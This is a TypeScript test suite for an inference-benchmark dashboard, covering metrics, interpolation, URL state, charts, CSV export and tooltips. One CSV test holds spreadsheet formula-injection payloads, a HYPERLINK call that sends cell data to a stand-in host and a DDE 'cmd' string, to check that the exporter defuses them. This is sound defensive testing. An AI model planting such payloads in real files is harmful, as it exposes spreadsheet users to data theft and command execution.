import { describe, expect, it } from 'vitest';
import { configRow } from '../support/config-row.js';
import type { PointRow } from '../../src/contract/index.js';
import { toCsv } from '../../web/src/lib/csv.js';
import { inferenceView } from '../../web/src/lib/inference.js';
import { monotoneAt } from '../../web/src/lib/interpolate.js';
import { DEFAULT_TCO, metricValue } from '../../web/src/lib/metrics.js';
import { trendSeries } from '../../web/src/lib/trends.js';
import { DEFAULTS, parseUrl, tcoOf, toUrl } from '../../web/src/lib/url-state.js';

function point(o: Partial<PointRow> & { x?: number; y?: number } = {}): PointRow {
  const { x = 50, y = 1000, ...rest } = o;
  return {
    ...configRow({ framework: 'vllm', model: 'org/m', model_prefix: 'm', image: 'vllm:1' }),
    run_id: 'r1',
    attempt: 1,
    official: true,
    date: '2026-01-01',
    isl: 1024,
    osl: 1024,
    conc: 4,
    runner: 'h200',
    power_valid: null,
    power_schema_version: null,
    power_reasons: [],
    power_source: null,
    n: 1,
    repeat_scope: null,
    stats: {},
    metrics: { median_intvty: x, tput_per_gpu: y, output_tput_per_gpu: y / 2, input_tput_per_gpu: y / 2, median_ttft: 1 / x },
    ...rest,
  };
}

describe('derived metrics', () => {
  it('cost per million tokens, tokens per MW and joules per token from throughput and the TCO figures', () => {
    const m = { tput_per_gpu: 10_000, output_tput_per_gpu: 1_000 };
    // h200: $1.60/GPU/hour, 1.73 kW. 10,000 tok/s = 36 M tok/hour → $1.60 / 36 = $0.0444 per M.
    expect(metricValue(m, 'h200', 'cost_per_mtok', DEFAULT_TCO)).toBeCloseTo(1.6 / 36, 12);
    expect(metricValue(m, 'h200', 'output_cost_per_mtok', DEFAULT_TCO)).toBeCloseTo(1.6 / 3.6, 12);
    // 10,000 tok/s/GPU at 1.73 kW/GPU: 5,780,346 tok/s per MW; 173 J per 1,000 tokens.
    expect(metricValue(m, 'h200', 'tput_per_mw', DEFAULT_TCO)).toBeCloseTo(10_000_000 / 1.73, 6);
    expect(metricValue(m, 'h200', 'joules_per_tok', DEFAULT_TCO)).toBeCloseTo(0.173, 12);
    expect(metricValue(m, 'h200', 'tput_per_gpu', DEFAULT_TCO)).toBe(10_000);
  });

  it('no figures, no value: unknown hardware, zero throughput, a missing metric', () => {
    expect(metricValue({ tput_per_gpu: 10 }, 'cpu', 'cost_per_mtok', DEFAULT_TCO)).toBeUndefined();
    expect(metricValue({ tput_per_gpu: 0 }, 'h200', 'joules_per_tok', DEFAULT_TCO)).toBeUndefined();
    expect(metricValue({}, 'h200', 'p99_ttft', DEFAULT_TCO)).toBeUndefined();
    expect(metricValue({ tput_per_gpu: 10 }, 'cpu', 'cost_per_mtok', { cpu: { costPerHour: 0.036, powerKw: 0.1 } })).toBeCloseTo(
      1,
      12,
    );
  });
});

describe('monotone interpolation', () => {
  it('is exact at the points, linear on linear data, and never overshoots', () => {
    const xs = [10, 20, 40, 80];
    const ys = [1000, 900, 500, 100];
    for (let i = 0; i < xs.length; i++) expect(monotoneAt(xs, ys, xs[i]!)).toBeCloseTo(ys[i]!, 9);
    expect(monotoneAt([0, 1, 2], [0, 10, 20], 0.25)).toBeCloseTo(2.5, 9);
    for (let x = 10; x <= 80; x += 0.5) {
      const v = monotoneAt(xs, ys, x)!;
      expect(v).toBeLessThanOrEqual(1000);
      expect(v).toBeGreaterThanOrEqual(100);
    }
    // A flat stretch stays flat (Steffen: no bump between equal values).
    expect(monotoneAt([0, 1, 2, 3], [5, 5, 5, 9], 1.5)).toBeCloseTo(5, 9);
  });

  it('does not extrapolate; a single point counts only at its own x; input order does not matter', () => {
    expect(monotoneAt([10, 20], [1, 2], 9.99)).toBeUndefined();
    expect(monotoneAt([10, 20], [1, 2], 20.01)).toBeUndefined();
    expect(monotoneAt([10], [7], 10)).toBe(7);
    expect(monotoneAt([10], [7], 11)).toBeUndefined();
    expect(monotoneAt([40, 10, 20], [500, 1000, 900], 15)).toBeCloseTo(monotoneAt([10, 20, 40], [1000, 900, 500], 15)!, 12);
  });
});

describe('view state in the URL', () => {
  it('defaults are left out; every field survives a round trip', () => {
    expect(toUrl(DEFAULTS)).toBe('/inference');
    const s = {
      ...DEFAULTS,
      model: 'dsr1',
      seq: '8192x1024',
      x: 'p99_ttft',
      y: 'cost_per_mtok',
      hw: ['h200', 'b200'],
      fw: ['sglang'],
      prec: ['fp4'],
      spec: ['mtp'],
      disagg: 'disagg' as const,
      date: '2026-08-01',
      optimal: false,
      run: 'pr-1',
      tco: { h200: { costPerHour: 2.5, powerKw: 1.9 } },
      target: 35,
    };
    const url = toUrl(s);
    expect(url).toBe(
      '/inference?model=dsr1&seq=8192x1024&x=p99_ttft&y=cost_per_mtok&hw=h200,b200&fw=sglang&prec=fp4&spec=mtp&disagg=disagg&date=2026-08-01&optimal=0&run=pr-1&tco=h200:2.5:1.9&target=35',
    );
    const [path, query] = url.split('?');
    expect(parseUrl(path!, `?${query}`)).toEqual(s);
    expect(tcoOf(s).h200).toEqual({ costPerHour: 2.5, powerKw: 1.9 });
    expect(tcoOf(s).b200).toEqual(DEFAULT_TCO.b200);
  });

  it('pages from the path, run pages by id; nonsense values fall back to defaults', () => {
    expect(parseUrl('/runs/pr%2F7', '').page).toBe('run');
    expect(parseUrl('/runs/pr%2F7', '').runId).toBe('pr/7');
    expect(toUrl({ ...DEFAULTS, page: 'run', runId: 'pr/7' })).toBe('/runs/pr%2F7');
    expect(parseUrl('/nowhere', '').page).toBe('inference');
    const junk = parseUrl('/inference', '?x=vibes&y=DROP&seq=big&date=soon&disagg=maybe&tco=h200:x:1,b200:-1:2&target=-3');
    expect(junk).toEqual({ ...DEFAULTS });
  });

  it('a preset expands into its parameters; explicit ones win', () => {
    expect(parseUrl('/inference', '?preset=cost')).toMatchObject({ y: 'cost_per_mtok' });
    expect(parseUrl('/inference', '?preset=disagg&optimal=1')).toMatchObject({ disagg: 'disagg', optimal: true });
  });
});

describe('the inference view', () => {
  // One series, four points; (15, 70) is beaten by (20, 80).
  const sweep = [
    point({ conc: 4, x: 10, y: 100 }),
    point({ conc: 8, x: 20, y: 80 }),
    point({ conc: 16, x: 15, y: 70 }),
    point({ conc: 32, x: 30, y: 50 }),
  ];

  it('groups into series, finds each frontier, hides the rest by default', () => {
    const rows = [
      ...sweep,
      point({ hardware: 'b200', runner: 'b200', conc: 4, x: 12, y: 90 }),
      point({ hardware: 'b200', runner: 'b200', conc: 8, date: '2025-12-01', x: 50, y: 50 }),
    ];
    const v = inferenceView(rows, DEFAULTS, DEFAULT_TCO);
    expect(v.series.map((s) => s.name)).toEqual(['B200 vllm fp8', 'H200 vllm fp8']);
    const h200 = v.series[1]!;
    expect(h200.frontier.map((p) => p.row.conc)).toEqual([4, 8, 32]);
    // The b200 series is its newest sweep: the older point is not in it.
    expect(v.series[0]!.points.map((p) => p.row.conc)).toEqual([4]);
    expect(v.visible).toHaveLength(4);
    expect(inferenceView(rows, { ...DEFAULTS, optimal: false }, DEFAULT_TCO).visible).toHaveLength(5);
    expect(inferenceView(rows, { ...DEFAULTS, hw: ['b200'] }, DEFAULT_TCO).series).toHaveLength(1);
  });

  it('follows the axes’ directions: lower TTFT is better, so the frontier changes', () => {
    const v = inferenceView(sweep, { ...DEFAULTS, x: 'median_ttft' }, DEFAULT_TCO);
    // TTFT = 1/x here: the fastest point (conc 32) and the highest throughput (conc 4) and what lies between.
    expect(v.series[0]!.frontier.map((p) => p.row.conc).sort((a, b) => a - b)).toEqual([4, 8, 32]);
    const cost = inferenceView(sweep, { ...DEFAULTS, y: 'cost_per_mtok' }, DEFAULT_TCO);
    expect(cost.series[0]!.frontier.map((p) => p.row.conc)).toEqual([4, 8, 32]);
  });

  it('points without TCO figures are counted, not drawn at zero', () => {
    const v = inferenceView([point({ hardware: 'cpu' }), point()], { ...DEFAULTS, y: 'cost_per_mtok' }, DEFAULT_TCO);
    expect(v.visible).toHaveLength(1);
    expect(v.missing).toEqual([{ hardware: 'cpu', count: 1 }]);
  });
});

describe('trends and CSV', () => {
  it('reads each date’s frontier at the target interactivity; none outside it', () => {
    const rows = [
      point({ date: '2026-01-01', conc: 4, x: 10, y: 1000 }),
      point({ date: '2026-01-01', conc: 8, x: 30, y: 600 }),
      point({ date: '2026-02-01', conc: 4, x: 10, y: 2000 }),
      point({ date: '2026-02-01', conc: 8, x: 30, y: 1200 }),
      point({ date: '2026-03-01', conc: 4, x: 40, y: 500 }),
    ];
    const [t] = trendSeries(rows, 20);
    // Two points: the monotone curve is the straight line between them.
    expect(t!.points).toEqual([
      ['2026-01-01', 800],
      ['2026-02-01', 1600],
    ]);
  });

  it('quotes what needs quoting and ends rows with CRLF', () => {
    const csv = toCsv(
      [
        { header: 'name', value: (r: { n: string; v: number }) => r.n },
        { header: 'Median TTFT (s)', value: (r) => r.v },
      ],
      [
        { n: 'a, "b"', v: 0.5 },
        { n: 'plain', v: 2 },
      ],
    );
    expect(csv).toBe('name,Median TTFT (s)\r\n"a, ""b""",0.5\r\nplain,2\r\n');
  });

  it('turns a stored text a spreadsheet would run as a formula into text; numbers stay numbers', () => {
    const csv = toCsv(
      [
        { header: 'image', value: (r: { n: string; v: number }) => r.n },
        { header: 'delta', value: (r) => r.v },
      ],
      ['=HYPERLINK("http://x/?"&A1)', "+cmd|'/C calc'!A0", '-2+3', '@SUM(A1)', '\t=1'].map((n) => ({ n, v: -0.5 })),
    );
    expect(csv.split('\r\n').slice(1, -1)).toEqual([
      `"'=HYPERLINK(""http://x/?""&A1)",-0.5`,
      `'+cmd|'/C calc'!A0,-0.5`,
      `'-2+3,-0.5`,
      `'@SUM(A1),-0.5`,
      `'\t=1,-0.5`,
    ]);
  });
});

describe('series colours', () => {
  it('are the same for the same series, and tell engines of one hardware apart', async () => {
    const { seriesColor } = await import('../../web/src/lib/colors.js');
    expect(seriesColor('h200', 'vllm', 'fp8')).toBe(seriesColor('h200', 'vllm', 'fp8'));
    const hue = (c: string) => Number(/hsl\((\d+)/.exec(c)![1]);
    expect(hue(seriesColor('h200', 'vllm', 'fp8'))).not.toBe(hue(seriesColor('h200', 'dynamo-sglang', 'fp8')));
    // NVIDIA and AMD hardware keep to their own hue families.
    expect(hue(seriesColor('mi355x', 'vllm', 'fp8'))).not.toBe(hue(seriesColor('h200', 'vllm', 'fp8')));
  });
});

describe('the point tooltip', () => {
  it('gives the whole configuration: topology, concurrency, image, recipe, a link to the run; escaped', async () => {
    const { pointTooltip } = await import('../../web/src/lib/tooltip.js');
    const row = point({
      disagg: true,
      prefill_num_workers: 5,
      decode_num_workers: 2,
      prefill_tp: 1,
      decode_tp: 8,
      decode_ep: 8,
      decode_dp_attention: true,
      image: 'nvcr.io/dynamo:<1>',
      recipe_fingerprint: 'abcdef0123456789ffff',
      run_id: 'pr 7',
      official: false,
    });
    const [p] = inferenceView([row], { ...DEFAULTS, optimal: false }, DEFAULT_TCO).visible;
    const html = String(pointTooltip(p!, 'median_intvty', 'tput_per_gpu'));
    expect(html).toContain('<b>m h200 vllm fp8 5P2D TP1/DEP8</b> <span class="unofficial">unofficial</span>');
    expect(html).toContain('5P2D TP1/DEP8 · conc 4 · ISL/OSL 1024/1024');
    expect(html).toContain('Interactivity, median (tok/s/user): <b>50.00</b>');
    expect(html).toContain('image: nvcr.io/dynamo:&#60;1&#62;');
    expect(html).toContain('recipe: abcdef0123456789');
    expect(html).toContain('run <a href="/runs/pr%207">pr 7</a> · 2026-01-01');
  });
});
